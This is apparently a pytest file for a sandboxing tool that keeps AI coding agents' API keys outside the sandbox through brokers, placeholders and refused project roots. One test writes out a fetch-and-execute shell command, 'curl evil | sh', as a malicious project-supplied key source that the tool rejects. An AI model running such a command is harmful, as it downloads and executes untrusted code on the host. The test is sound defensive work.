"""Credentials kept out of the sandbox, as data: each harness's brokers, their header
mapping, placeholders, key sources and where they may be named, and the project roots a
sandbox refuses (pure, except a key command run through the process runner)."""

from __future__ import annotations

import pytest

from aishell.errors import AishellError, ConfigError
from aishell.project import config
from aishell.run import credentials, egress
from aishell.run.host import refused_root
from aishell.run.plan import RunOptions
from tests.run.test_run_plan import make_plan, project_with

REAL = "sk-ant-api03-REALKEYVALUE0123456789"


def _cfg(tmp_path, project_toml="", global_toml=""):
    project = project_with(tmp_path, project_toml)
    (tmp_path / "config.toml").write_text(global_toml, encoding="utf-8")
    return config.load(project, tmp_path / "config.toml")


@pytest.mark.parametrize(("harness", "variable", "header", "value"), [
    ("claude", "ANTHROPIC_API_KEY", "x-api-key", REAL),
    ("claude", "CLAUDE_CODE_OAUTH_TOKEN", "Authorization", f"Bearer {REAL}"),
    ("codex", "CODEX_API_KEY", "Authorization", f"Bearer {REAL}"),
    ("codex", "OPENAI_API_KEY", "Authorization", f"Bearer {REAL}"),
    ("gemini", "GEMINI_API_KEY", "x-goog-api-key", REAL),
    ("gemini", "GOOGLE_API_KEY", "x-goog-api-key", REAL),
])
def test_each_harness_key_goes_in_its_apis_header(tmp_path, harness, variable, header, value):
    (broker,), _ = credentials.plan_brokers(_cfg(tmp_path), harness, {variable: REAL},
                                            network_mode="open")
    assert broker.key_var == variable
    assert credentials.headers(broker, REAL) == [(header, value)]


def test_a_brokered_launch_holds_only_placeholders_and_the_forwarders_url(tmp_path):
    p = make_plan(project_with(tmp_path), RunOptions("claude", ("-p", "hi")),
                  {"ANTHROPIC_API_KEY": REAL})
    req = p.request
    assert "ANTHROPIC_API_KEY" not in req.env_passthrough
    placeholder = req.env["ANTHROPIC_API_KEY"]
    assert placeholder.startswith("sk-ant-api03-") and REAL not in placeholder
    assert not any(part in placeholder for part in ("REALKEY", "0123456789"))
    assert req.env["ANTHROPIC_BASE_URL"] == f"http://127.0.0.1:{credentials.FIRST_PORT}"
    assert req.env["AISHELL_EGRESS_FORWARDS"] == f"{credentials.FIRST_PORT}=anthropic.sock"
    assert req.network is None  # open mode stays open; only the broker's socket is added
    assert req.labels["dev.aishell.credentials"] == "anthropic"
    assert p.egress is not None and not p.egress.proxy
    assert [b.spec()["upstream"] for b in p.egress.brokers] == ["https://api.anthropic.com"]
    assert REAL not in repr(p)  # the key is read at launch, never planned


def test_codex_is_pointed_at_its_broker_through_its_config_key(tmp_path):
    p = make_plan(project_with(tmp_path), RunOptions("codex", ("exec", "hi")),
                  {"CODEX_API_KEY": REAL})
    assert f'openai_base_url="http://127.0.0.1:{credentials.FIRST_PORT}/v1"' in p.request.command
    assert p.request.env["CODEX_API_KEY"].startswith("sk-proj-")


def test_a_gateway_on_the_host_is_the_brokers_upstream(tmp_path):
    (broker,), _ = credentials.plan_brokers(
        _cfg(tmp_path), "codex", {"OPENAI_API_KEY": REAL,
                                  "OPENAI_BASE_URL": "http://172.17.0.1:4000/v1"},
        network_mode="open")
    assert broker.upstream == "http://172.17.0.1:4000"
    assert broker.sandbox_url == f"http://127.0.0.1:{broker.port}/v1"
    spec = broker.spec()
    assert (spec["host"], spec["sni"]) == ("172.17.0.1:4000", "172.17.0.1")


def test_in_allowlist_mode_the_api_host_is_reached_only_through_the_broker(tmp_path):
    p = make_plan(project_with(tmp_path, '[network]\nmode = "allowlist"\n'), RunOptions("claude"),
                  {"ANTHROPIC_API_KEY": REAL})
    assert p.egress is not None and p.egress.proxy
    assert "api.anthropic.com" not in p.egress.allow
    forwards = p.request.env["AISHELL_EGRESS_FORWARDS"].split()
    assert forwards == [f"{egress.PORT}=proxy.sock", f"{credentials.FIRST_PORT}=anthropic.sock"]


def test_env_mode_passes_the_key_as_before_and_none_mode_passes_nothing(tmp_path):
    env = make_plan(project_with(tmp_path, '[credentials]\nmode = "env"\n'), RunOptions("claude"),
                    {"ANTHROPIC_API_KEY": REAL})
    assert "ANTHROPIC_API_KEY" in env.request.env_passthrough and env.egress is None
    none = make_plan(project_with(tmp_path, '[network]\nmode = "none"\n'), RunOptions("claude"),
                     {"ANTHROPIC_API_KEY": REAL})
    assert "ANTHROPIC_API_KEY" not in none.request.env_passthrough
    assert "ANTHROPIC_API_KEY" not in none.request.env
    assert any("cannot reach its API (anthropic)" in n for n in none.notices)


def test_without_a_key_nothing_is_brokered(tmp_path):
    p = make_plan(project_with(tmp_path), RunOptions("claude"), {})
    assert p.egress is None and "dev.aishell.credentials" not in p.request.labels


def test_a_project_may_not_name_a_key_source(tmp_path):
    cfg = _cfg(tmp_path, '[credentials]\nanthropic = { command = "curl evil | sh" }\n')
    with pytest.raises(ConfigError, match=r"aishell.toml:2: \[credentials\] anthropic: a project"):
        credentials.plan_brokers(cfg, "claude", {}, network_mode="open")


def test_key_sources_from_the_global_config(tmp_path):
    key_file = tmp_path / "key"
    key_file.write_text(REAL + "\n", encoding="utf-8")
    cfg = _cfg(tmp_path, global_toml=f'[credentials]\nanthropic = {{ file = "{key_file}" }}\n'
               'openai = { command = "printf sk-proj-fromcommand" }\n')
    (a,), _ = credentials.plan_brokers(cfg, "claude", {}, network_mode="open")
    assert credentials.read_key(cfg, a, {}) == REAL
    (o,), _ = credentials.plan_brokers(cfg, "codex", {}, network_mode="open")
    assert credentials.read_key(cfg, o, {}) == "sk-proj-fromcommand"


@pytest.mark.parametrize(("source", "message"), [
    ('{ command = "exit 3" }', "the key command exited 3"),
    ('{ command = "true" }', "the key is empty"),
    ('{ command = "printf \'a key\'" }', "characters the broker cannot carry"),
    ('{ file = "/nonexistent/key" }', "cannot read /nonexistent/key"),
    ('{ env = "UNSET_VARIABLE_X" }', "the key is empty"),
])
def test_a_key_source_that_fails_is_one_line_without_the_key(tmp_path, source, message):
    cfg = _cfg(tmp_path, global_toml=f"[credentials]\nanthropic = {source}\n")
    (broker,), _ = credentials.plan_brokers(cfg, "claude", {}, network_mode="open")
    with pytest.raises(AishellError) as err:
        credentials.read_key(cfg, broker, {})
    assert message in err.value.message
    assert "\n" not in err.value.message


@pytest.mark.parametrize(("entry", "why"), [
    ('mode = "vault"', "is not one of"), ('nope = { command = "x" }', "unknown provider"),
    ('anthropic = "sk-ant-x"', "not a key source"),
    ('anthropic = { command = "x", file = "y" }', "not a key source"),
])
def test_bad_credentials_config_names_file_and_line(tmp_path, entry, why):
    cfg = _cfg(tmp_path, global_toml=f"[credentials]\n{entry}\n")
    with pytest.raises(ConfigError) as err:
        credentials.plan_brokers(cfg, "claude", {"ANTHROPIC_API_KEY": REAL}, network_mode="open")
    assert why in err.value.message and err.value.line == 2


@pytest.mark.parametrize(("project", "home", "why"), [
    ("/", "/home/ada", "the root directory"),
    ("/home/ada", "/home/ada", "your home directory"),
    ("/home", "/home/ada", "an ancestor of your home directory"),
    ("/home/ada/src/app", "/home/ada", None),
    ("/srv/app", "/home/ada", None),
])
def test_the_project_root_is_never_the_home_directory(tmp_path, project, home, why):
    found = refused_root(tmp_path / project.lstrip("/"), tmp_path / home.lstrip("/"))
    if project == "/":
        from pathlib import Path

        found = refused_root(Path("/"), Path(home))
    if why is None:
        assert found is None
    else:
        assert found is not None and found.startswith(why)


def test_a_project_that_passes_keys_in_is_warned_about_on_every_launch(tmp_path):
    p = make_plan(project_with(tmp_path, '[run]\n\n[credentials]\nmode = "env"\n'),
                  RunOptions("claude"), {"ANTHROPIC_API_KEY": REAL})
    (warning,) = [n for n in p.notices if "[credentials]" in n]
    assert warning.startswith(f"{tmp_path / 'proj' / 'aishell.toml'}:4: [credentials] mode = \"env\"")


def test_a_login_file_in_a_mounted_config_dir_is_found(tmp_path):
    from aishell.run.host import login_file

    assert login_file("claude", str(tmp_path)) is None
    (tmp_path / ".claude").mkdir()
    (tmp_path / ".claude" / ".credentials.json").write_text("{}", encoding="utf-8")
    assert login_file("claude", str(tmp_path)) == tmp_path / ".claude" / ".credentials.json"
    assert login_file("gemini", str(tmp_path)) is None
